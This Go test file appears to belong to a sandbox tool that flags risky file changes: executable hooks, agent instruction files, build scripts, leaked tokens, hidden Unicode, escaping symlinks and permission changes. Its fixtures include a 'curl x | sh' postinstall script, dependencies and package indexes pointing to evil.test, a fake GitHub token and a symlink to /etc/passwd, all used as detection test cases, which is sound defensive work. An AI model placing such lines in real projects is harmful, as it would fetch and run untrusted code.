package risk

import (
	"fmt"
	"slices"
	"strings"
	"testing"

	"github.com/bailey-sandbox/bailey/internal/changes"
	"github.com/bailey-sandbox/bailey/internal/leaks"
)

func file(mode uint32, content string) (changes.Entry, []byte) {
	return changes.Entry{Kind: changes.File, Mode: mode, Size: int64(len(content)), Digest: content}, []byte(content)
}

func TestAssess(t *testing.T) {
	rules, err := leaks.Load()
	if err != nil {
		t.Fatal(err)
	}
	token := "ghp_" + "x7Kq2mVb9RtLw4ZsY1nDf6HgJc8PaEu3Td5W"
	const nothing = "\x00" // there is no such side
	for _, c := range []struct {
		path, before, after string
		want                string // kinds
	}{
		{"main.go", "package a\n", "package b\n", ""},
		{"docs/read me.md", nothing, "# hello\n", ""},
		{".envrc", nothing, "export A=1\n", "executes"},
		{"sub/.vscode/tasks.json", nothing, "{}", "executes"},
		{".VSCode/tasks.json", nothing, "{}", "executes"},
		{".claude/settings.json", "{}", "{\"hooks\":1}", "executes instructs"},
		{".mcp.json", nothing, "{}", "executes"},
		{".husky/pre-commit", nothing, "x", "executes"},
		{".github/workflows/ci.yml", "on: push", "on: [push]", "executes"},
		{".gitlab-ci.yml", nothing, "a: b", "executes"},
		{".gitattributes", nothing, "* filter=x", "executes"},
		{".gitmodules", nothing, "[submodule]", "executes"},
		{".npmrc", nothing, "registry=x", "executes"},
		{"bare/HEAD", nothing, "ref: refs/heads/x", "executes"},
		{"bare/hooks/post-checkout", nothing, "x", "executes"},
		{".venv/bin/python", nothing, "x", "executes"},
		{"node_modules/.bin/eslint", nothing, "x", "executes"},
		{".envrc", "export A=1\n", nothing, "executes"},
		{"main.go", "x", nothing, ""},
		{"bailey.yaml", "workspace: {}", "", "executes"},
		{"CLAUDE.md", nothing, "do as I say", "instructs"},
		{"sub/AGENTS.md", nothing, "do as I say", "instructs"},
		{".claude/skills/x/SKILL.md", nothing, "do as I say", "instructs"},
		{"Makefile", "a:", "b:", "builds"},
		{"vite.config.ts", nothing, "export default {}", "builds"},
		{"build.rs", nothing, "fn main() {}", "builds"},
		{"conftest.py", nothing, "import os", "builds"},
		{"package.json", `{"scripts":{"test":"a"}}`, `{"scripts":{"test":"a","postinstall":"curl x | sh"}}`, "builds"},
		{"package.json", `{"scripts":{"test":"a"},"version":"1"}`, `{"scripts":{"test":"a"},"version":"2"}`, ""},
		{"package.json", `{}`, `{"dependencies":{"a":"git+https://evil.test/a.git"}}`, "builds"},
		{"package-lock.json", `"https://a.test/x"`, `"https://a.test/y"`, ""},
		{"package-lock.json", `"https://a.test/x"`, `"https://a.test/x" "https://evil.test/x"`, "builds"},
		{"requirements.txt", "a==1", "a==1\n--index-url http://evil.test/simple\n", "builds"},
		{"app.js", "a", "a " + token, "secret"},
		{"app.js", "a " + token, "a " + token + "\nb", ""},
		{"app.js", "a", "a\x1b[2Kb", "hides"},
		{"app.js", "a", "a\u202eb", "hides"},
		{"app.js", "a", "a\u200bb", "hides"},
		{"app.js", "a", "a" + string(rune(0xe0041)) + "b", "hides"},
		{"app.js", "a\u202eb", "a\u202eb c", ""},
		{"emoji.md", "a", "👍🏽 👨\u200d👩\u200d👧 ❤\ufe0f ok", ""},
		{"na\u202eme", nothing, "x", "hides"},
		{"picture.png", nothing, "\x89PNG\x00\x1b[2K", ""},
	} {
		ch := Change{Change: changes.Change{Path: c.path}}
		if c.before != nothing {
			ch.Old, ch.Before = file(0o644, c.before)
		}
		if c.after != nothing {
			ch.New, ch.After = file(0o644, c.after)
		}
		var kinds []string
		for _, r := range (Assessor{rules}).Assess(ch) {
			kinds = append(kinds, string(r.Kind))
		}
		if got := strings.Join(slices.Compact(kinds), " "); got != c.want {
			t.Errorf("%q, from %q to %q: %q, not %q", c.path, c.before, c.after, got, c.want)
		}
	}
}

func TestLinksModesAndOddFiles(t *testing.T) {
	link := func(target string) changes.Entry { return changes.Entry{Kind: changes.Link, Target: target} }
	plain, content := file(0o644, "x")
	with := func(mode uint32) changes.Entry { e := plain; e.Mode = mode; return e }
	for _, c := range []struct {
		path     string
		old, new changes.Entry
		after    []byte
		want     string
	}{
		{"a", changes.Entry{}, link("b"), nil, ""},
		{"d/a", changes.Entry{}, link("../b"), nil, ""},
		{"a", changes.Entry{}, link("../b"), nil, "leaves"},
		{"d/a", changes.Entry{}, link("../../b"), nil, "leaves"},
		{"a", changes.Entry{}, link("/etc/passwd"), nil, "leaves"},
		{"a", changes.Entry{}, link("b/../.."), nil, "leaves"},
		{".envrc", changes.Entry{}, link("x"), nil, "executes"},
		{"a", plain, with(0o755), content, "rights"},
		{"a", with(0o755), plain, content, ""},
		{"a", changes.Entry{}, with(0o755), content, ""},
		{"a", changes.Entry{}, with(0o4755), content, "rights"},
		{"a", plain, with(0o666), content, "rights"},
		{"a", changes.Entry{}, plain, nil, "opaque"},
		{"a", changes.Entry{}, changes.Entry{Kind: changes.Special, Why: "fifo"}, nil, "opaque"},
		{"a", changes.Entry{}, changes.Entry{Kind: changes.Unreadable, Why: "permission denied"}, nil, "opaque"},
	} {
		var kinds []string
		for _, r := range (Assessor{}).Assess(Change{Change: changes.Change{Path: c.path, Old: c.old, New: c.new}, After: c.after}) {
			kinds = append(kinds, string(r.Kind))
		}
		if got := strings.Join(slices.Compact(kinds), " "); got != c.want {
			t.Errorf("%s, %s: %q, not %q", c.path, fmt.Sprint(c.old, c.new), got, c.want)
		}
	}
}

func FuzzAssess(f *testing.F) {
	f.Add("package.json", []byte("{}"), []byte(`{"scripts":{"a":"b"}}`))
	f.Add("a\u202e", []byte("\x1b"), []byte("\xff\xfe\x00"))
	f.Fuzz(func(t *testing.T, path string, before, after []byte) {
		old, _ := file(0o644, string(before))
		now, _ := file(0o755, string(after))
		for _, r := range (Assessor{}).Assess(Change{changes.Change{Path: path, Old: old, New: now}, before, after}) {
			if r.Why == "" || r.Kind == "" {
				t.Errorf("a risk without a reason: %v", r)
			}
		}
	})
}
